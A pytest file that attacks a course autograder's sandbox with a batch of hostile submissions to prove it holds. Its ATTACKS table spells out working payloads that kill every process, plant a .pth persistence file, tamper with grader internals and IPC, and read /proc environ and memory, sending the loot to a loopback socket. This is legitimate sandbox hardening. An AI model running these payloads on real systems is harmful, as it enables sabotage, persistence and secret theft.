"""Hostile learners against the sandboxed grader: one batch, attacks mixed with correct work.

Every attack class of issue 7 is a submission written at run time (so no linter and no importer
ever sees it) into one class folder with copies of a correct submission. The batch is graded by
``ce-course grade --sandbox required`` with a ``--hidden-tests`` directory full of canary
strings. Then: every correct submission has full marks, no hostile one earned a point, every
submission has its row, the grader kept its deadlines, no canary appears in any report, nothing
outside the scratch area changed (the development venv's site-packages included), and no
process of the batch is left.

The attacks are bounded: each sleeps at most a few seconds, starts at most a handful of
processes and writes nothing large; the network they try is loopback only.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import sysconfig
import time
from pathlib import Path

import pytest
from grading_support import SUBMISSIONS

import ce_course
from ce_course.grading.exercises import get_exercise
from ce_course.grading.sandbox import sandbox_status

CANARY = "CANARY-7f3a9c-hidden-secret"
GOOD = SUBMISSIONS / "good" / "02_softmax.py"

_OK, _WHY = sandbox_status()
if not _OK and os.environ.get("CE_REQUIRE_SANDBOX") == "1":
    raise RuntimeError(f"CE_REQUIRE_SANDBOX=1 but the sandbox is unavailable: {_WHY}")
pytestmark = pytest.mark.skipif(not _OK, reason=f"bubblewrap sandbox unavailable: {_WHY}")

_PRELUDE = "import ctypes, os, signal, sys, time\nimport numpy as np\n"
_CORRECT = (
    "def softmax(x):\n"
    "    x = np.asarray(x)\n"
    "    x = x if x.dtype.kind == 'f' else x.astype(np.float64)  # integers become float64\n"
    "    e = np.exp(x - x.max(axis=-1, keepdims=True))\n"
    "    return e / e.sum(axis=-1, keepdims=True)\n"
)

ATTACKS: dict[str, str] = {
    # kill the grader and everything else we can find, bypassing the audit hook with ctypes
    "kill_grader": (
        "libc = ctypes.CDLL(None)\n"
        "for p in [os.getppid(), 1, *[int(d) for d in os.listdir('/proc') if d.isdigit()]]:\n"
        "    libc.kill(p, 9)\n"
        "libc.kill(-1, 9)\n"
        "def softmax(x):\n    return x\n"
    ),
    # rewrite a sibling submission through a directory file descriptor
    "rewrite_sibling": (
        "def _attack():\n"
        "    d = os.open({batch!r}, os.O_RDONLY)\n"
        "    fd = os.open('02_softmax__good_a.py', os.O_WRONLY | os.O_TRUNC, dir_fd=d)\n"
        "    os.write(fd, b'def softmax(x):\\n    return x\\n')\n"
        "try:\n    _attack()\nexcept OSError:\n    pass\n"
        "def softmax(x):\n    _attack()\n    return x\n"
    ),
    # write a .pth file into every site-packages we can name
    "pth_file": (
        "import site, sysconfig\n"
        "for d in {{*site.getsitepackages(), sysconfig.get_paths()['purelib'], {site!r}}}:\n"
        "    try:\n"
        "        fd = os.open(os.path.join(d, 'zz_pwn.pth'), os.O_WRONLY | os.O_CREAT, 0o644)\n"
        '        os.write(fd, b\'import os; os.environ["PWNED"] = "1"\\n\')\n'
        "    except OSError:\n        pass\n"
        "def softmax(x):\n    return x\n"
    ),
    # a detached daemon (double fork, setsid) that later rewrites the output and kills workers
    "daemon": (
        "libc = ctypes.CDLL(None)\n"
        "if libc.fork() == 0:\n"
        "    libc.setsid()\n"
        "    if libc.fork() == 0:\n"
        "        time.sleep(2)\n"
        "        try:\n"
        "            open({output!r}, 'w').write('{{}}')\n"
        "        except OSError:\n            pass\n"
        "        for p in range(2, 400):\n            libc.kill(p, 9)\n"
        "        libc.kill(-1, 9)\n"
        "        time.sleep(3)\n"
        "    libc._exit(0)\n"
        "def softmax(x):\n    return x\n"
    ),
    # a detached child holding stdout open for a long time
    "hold_stdout": (
        "libc = ctypes.CDLL(None)\n"
        "if libc.fork() == 0:\n    time.sleep(20)\n    libc._exit(0)\n"
        "def softmax(x):\n    return x\n"
    ),
    # the reference from a thread, from another module's globals, through gc
    "reference_routes": (
        "import gc, threading, ce_course, ce_course.losses as L\n"
        "def _via_thread(x):\n"
        "    box = []\n"
        "    t = threading.Thread(target=lambda: box.append(ce_course.softmax(x)))\n"
        "    t.start(); t.join()\n"
        "    return box[0]\n"
        "def softmax(x):\n"
        "    for route in (_via_thread, lambda x: vars(L).get('softmax', L.__dict__)(x),\n"
        "                  lambda x: sys.modules['ce_course.softmax'].__dict__['_exp_parts'](x)[0]):\n"
        "        try:\n            return route(x)\n        except BaseException:\n            pass\n"
        "    for obj in gc.get_objects():\n"
        "        if callable(obj) and getattr(obj, '__name__', '') in ('softmax', '_exp_parts'):\n"
        "            try:\n                return obj(x)\n            except BaseException:\n"
        "                pass\n"
        "    return x\n"
    ),
    # stub the guard's internals and patch the worker's functions, then call the reference
    "patch_worker": (
        "import ce_course\n"
        "from ce_course.grading import guard, worker\n"
        "guard.ReferenceGuard._record = lambda self, what: None\n"
        "worker._stub_calls = lambda labels: []\n"
        "_real = worker._run_case\n"
        "def _fake(fn, case, *a):\n"
        "    r = _real(fn, case, *a)\n"
        "    r['status'], r['error'], r['stub_calls'] = 'ok', None, []\n"
        "    return r\n"
        "worker._run_case = _fake\n"
        "def softmax(x):\n    return ce_course.softmax(x)\n"
    ),
    # forge replies on every descriptor that might be the channel (found via /proc/self/fd)
    "forge_channel": (
        "import json, struct\n"
        "def _forge():\n"
        "    msg = json.dumps({{'type': 'result', 'seq': 1, 'status': 'ok', 'value': 1.0,\n"
        "        'error': None, 'mutated': [], 'violations': [], 'tampered': False,\n"
        "        'stub_calls': [], 'seconds': 0.0, 'score': 13}}).encode()\n"
        "    for fd in range(3, 30):\n"
        "        try:\n            os.write(fd, struct.pack('>I', len(msg)) + msg)\n"
        "        except OSError:\n            pass\n"
        "def softmax(x):\n    _forge()\n    return x\n"
    ),
    # read secrets and echo them: feedback (an exception), printed output, a loopback socket
    "read_secrets": (
        "import glob, socket\n"
        "def _loot():\n"
        "    found = []\n"
        "    for pattern in ({hidden!r} + '/*', {source!r} + '/*', {batch!r} + '/*',\n"
        "                    '/proc/*/mem', '/proc/*/environ', '/proc/*/cmdline'):\n"
        "        for p in glob.glob(pattern)[:50]:\n"
        "            try:\n                found.append(open(p, 'rb').read(4000).decode('latin1'))\n"
        "            except OSError:\n                pass\n"
        "    return ' '.join(found)\n"
        "loot = _loot()\n"
        "print(loot)\n"
        "try:\n"
        "    s = socket.create_connection(('127.0.0.1', {port}), timeout=1); s.sendall(loot.encode())\n"
        "except OSError:\n    pass\n"
        "def softmax(x):\n    raise ValueError(_loot()[:290] or 'nothing found')\n"
    ),
    # a flood of frames on the channel, then a frame header announcing 2 GiB
    "flood": (
        "import struct\n"
        "def softmax(x):\n"
        "    for fd in range(3, 12):\n"
        "        try:\n"
        "            for _ in range(200):\n"
        '                os.write(fd, struct.pack(\'>I\', 25) + b\'{{"type": "start", "q": 1}}\')\n'
        "            os.write(fd, struct.pack('>I', 2**31) + b'x' * 65536)\n"
        "        except OSError:\n            pass\n"
        "    return x\n"
    ),
    # a huge result: as big as the encoder allows, many times
    "huge_result": ("def softmax(x):\n    return [np.ones(2**21) for _ in range(200)]\n"),
}


@pytest.fixture(scope="module")
def throwaway(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A throwaway install: a fresh venv holding copies of NumPy and ce_course, nothing else.

    The attacks run against it, so that even a hole in the sandbox could only damage this copy:
    the development venv is never on the grader's path.
    """
    venv = tmp_path_factory.mktemp("throwaway") / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    site = next((venv / "lib").glob("python*/site-packages"))
    dev_site = Path(sysconfig.get_paths()["purelib"])
    for name in ("numpy", "numpy.libs"):
        if (dev_site / name).exists():
            shutil.copytree(dev_site / name, site / name, symlinks=True)
    shutil.copytree(
        Path(ce_course.__file__).parent,
        site / "ce_course",
        ignore=shutil.ignore_patterns("__pycache__"),
    )
    return venv


_DRIVER = (
    "import resource, sys\n"
    "from ce_course.cli import main\n"
    "code = main(sys.argv[1:])\n"
    "print('MAXRSS_KIB', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)\n"
    "sys.exit(code)\n"
)


def _grade(venv: Path, *args: str) -> tuple[int, int]:
    """Run ``ce-course`` of the throwaway install; (exit code, the grader's peak RSS in KiB)."""
    env = {"PATH": "/usr/bin:/bin", "OPENBLAS_NUM_THREADS": "1", "HOME": str(venv.parent)}
    done = subprocess.run(
        [str(venv / "bin" / "python"), "-I", "-B", "-c", _DRIVER, *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
        check=False,
    )
    rss = [int(line.split()[1]) for line in done.stdout.splitlines() if line.startswith("MAXRSS")]
    assert rss and done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    return done.returncode, rss[0]


def _processes_of(marker: str) -> list[str]:
    """Command lines of live processes that mention ``marker``."""
    out = []
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            with open(f"/proc/{d}/cmdline", "rb") as fh:
                cmd = fh.read().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if marker in cmd:
            out.append(f"{d}: {cmd[:200]}")
    return out


def _snapshot(directory: str) -> dict[str, tuple[int, int]]:
    out = {}
    for root, _dirs, files in os.walk(directory):
        for f in files:
            p = os.path.join(root, f)
            try:
                st = os.lstat(p)
            except OSError:
                continue
            out[p] = (st.st_size, st.st_mtime_ns)
    return out


def test_one_hostile_batch(tmp_path: Path, throwaway: Path) -> None:
    import socket

    batch = tmp_path / "class"
    batch.mkdir()
    hidden = tmp_path / "hidden"
    hidden.mkdir()
    (hidden / "extra_02.py").write_text(
        "import numpy as np\nfrom ce_course.grading import Case\n"
        f"# {CANARY}\nEXERCISE = '02_softmax'\n"
        f"CASES = [Case('softmax', 'a canary case {CANARY[:6]}', args=(np.full((2, 3), 7.25),))]\n",
        encoding="utf-8",
    )
    output = tmp_path / "out" / "grades.json"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.1)
    site = str(next((throwaway / "lib").glob("python*/site-packages")))
    dev_site = sysconfig.get_paths()["purelib"]
    source = str(Path(__file__).resolve().parents[2] / "exercises" / "source")
    fmt = {
        "batch": str(batch),
        "site": site,
        "output": str(output),
        "hidden": str(hidden),
        "source": source,
        "port": listener.getsockname()[1],
    }
    for name in ("a", "b", "c", "d"):
        shutil.copyfile(GOOD, batch / f"02_softmax__good_{name}.py")
    for name, body in ATTACKS.items():
        (batch / f"02_softmax__{name}.py").write_text(
            _PRELUDE + body.format(**fmt), encoding="utf-8"
        )
    # a notebook that says it is exercise 09 and defines a correct softmax and a bogus 09 answer
    cells = [
        {
            "cell_type": "code",
            "metadata": {},
            "outputs": [],
            "execution_count": None,
            "source": _PRELUDE + _CORRECT + "def two_layer_loss(*a, **k):\n    return 0.0\n",
        }
    ]
    nb = {
        "cells": cells,
        "metadata": {"ce_course": {"exercise": "09_two_layer_net"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    (batch / "mismatch.ipynb").write_text(json.dumps(nb), encoding="utf-8")
    (batch / "nothing.py").write_text("import numpy as np\nx = 1\n", encoding="utf-8")
    good_text = GOOD.read_text(encoding="utf-8")
    venv_before = _snapshot(site)
    dev_before = _snapshot(dev_site)
    sandboxed_before = len(_processes_of("/opt/ce-course/boot.py"))  # this session's own
    start = time.monotonic()
    code, rss = _grade(
        throwaway,
        *[
            "grade",
            str(batch),
            "--exercise",
            "02",
            "--hidden-tests",
            str(hidden),
            "--format",
            "json",
            "-o",
            str(output),
            "--sandbox",
            "required",
            "--timeout",
            "3",
            "--load-timeout",
            "8",
            "--jobs",
            "3",
        ],
    )
    elapsed = time.monotonic() - start
    assert code == 0
    report_text = output.read_text(encoding="utf-8")
    doc = json.loads(report_text)
    rows = {Path(s["path"]).name: s for s in doc["submissions"]}
    full = get_exercise("02_softmax").max_score + 1  # and the canary case of --hidden-tests
    n = len(ATTACKS) + 4 + 2
    assert len(rows) == n, sorted(rows)
    # deadlines: load (8) + 1 question (3) + 5 s margin per submission, 3 in parallel
    assert elapsed < 60, elapsed
    for row in rows.values():
        budget = 8 + 3 * len(get_exercise("02_softmax").questions) + 5  # the grader's own
        assert row["seconds"] < budget + 4, (row["path"], row["seconds"])  # and the clean-up
    for name in ("a", "b", "c", "d"):
        row = rows[f"02_softmax__good_{name}.py"]
        assert row["score"] == row["max_score"] == full, row
        assert row["sandbox"] == "bubblewrap"
    for name in ATTACKS:
        row = rows[f"02_softmax__{name}.py"]
        assert row["score"] == 0, (name, row["questions"][0]["feedback"], row["messages"])
    mismatch = rows["mismatch.ipynb"]
    assert mismatch["exercise"] == "02_softmax" and mismatch["max_score"] == full
    assert mismatch["questions"][0]["score"] == mismatch["questions"][0]["max_score"]
    assert any("mismatch" in m and "09_two_layer_net" in m for m in mismatch["messages"])
    nothing = rows["nothing.py"]
    assert nothing["status"] == "nothing_to_grade"
    assert "nothing to grade for 02_softmax" in nothing["messages"][0]
    assert "reference" in json.dumps(rows["02_softmax__patch_worker.py"]["questions"])
    flood = rows["02_softmax__flood.py"]["questions"][0]
    assert flood["status"] == "crashed" and "protocol violation" in " ".join(flood["feedback"])
    # the batch's sibling and the venv are unchanged; the output was not rewritten later
    assert (batch / "02_softmax__good_a.py").read_text(encoding="utf-8") == good_text
    time.sleep(3)
    assert output.read_text(encoding="utf-8") == report_text
    assert _snapshot(site) == venv_before
    assert _snapshot(dev_site) == dev_before
    assert not os.path.exists(os.path.join(site, "zz_pwn.pth"))
    # no canary anywhere, nothing on the loopback socket
    assert CANARY not in report_text and CANARY[:6] not in report_text.replace(
        "a canary case " + CANARY[:6], ""
    )
    for fmt_name in ("text", "csv"):
        other = tmp_path / f"again.{fmt_name}"
        _grade(
            throwaway,
            *[
                "grade",
                str(batch / "02_softmax__read_secrets.py"),
                "--exercise",
                "02",
                "--hidden-tests",
                str(hidden),
                "--format",
                fmt_name,
                "-o",
                str(other),
            ],
        )
        assert CANARY not in other.read_text(encoding="utf-8")
    try:
        conn, _ = listener.accept()
        conn.close()
        leaked = True
    except OSError:
        leaked = False
    listener.close()
    assert not leaked, "a submission reached the loopback socket"
    # memory of the grader stayed bounded (ru_maxrss is in KiB on Linux)
    # bounded by design: jobs x (the 24 MiB message cap, decoded) plus the 48 MiB per submission
    assert rss < 768 * 1024, rss
    # no process of the batch is left once the grader has exited
    deadline = time.monotonic() + 10  # the kernel tears the namespaces down (a busy machine)
    while time.monotonic() < deadline and (
        _processes_of(str(throwaway))
        or len(_processes_of("/opt/ce-course/boot.py")) > sandboxed_before
    ):
        time.sleep(0.2)
    assert _processes_of(str(throwaway)) == []
    assert len(_processes_of("/opt/ce-course/boot.py")) <= sandboxed_before
